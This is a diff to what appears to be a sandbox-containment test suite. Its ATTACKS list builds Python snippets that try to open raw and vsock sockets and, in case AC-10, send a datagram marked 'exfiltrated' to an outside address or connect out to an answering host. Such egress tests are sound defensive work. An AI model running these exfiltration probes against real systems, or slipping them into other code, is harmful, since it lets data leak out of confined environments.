@@ -125,10 +125,10 @@ export const ATTACKS: readonly Attack[] = [
     () =>
       `for family, kind, protocol in ((40, socket.SOCK_STREAM, 0), (16, socket.SOCK_RAW, 12)):\n    try:\n        socket.socket(family, kind, protocol)\n        break\n    except OSError: continue\nelse: raise OSError(1, 'refused')`,
   ),
-  tries(
-    'AC-10',
-    'a datagram to an address outside',
-    ({ address }) => `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('${address}', 53)); s.send(b'exfiltrated')`,
+  tries('AC-10', 'a datagram to an address outside, or an answer from there', ({ address, answers }) =>
+    answers !== undefined
+      ? `s = socket.socket(); s.settimeout(3); s.connect(('${answers.host}', ${answers.port}))`
+      : `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('${address}', 53)); s.send(b'exfiltrated')`,
   ),
   {
     id: 'AC-11',
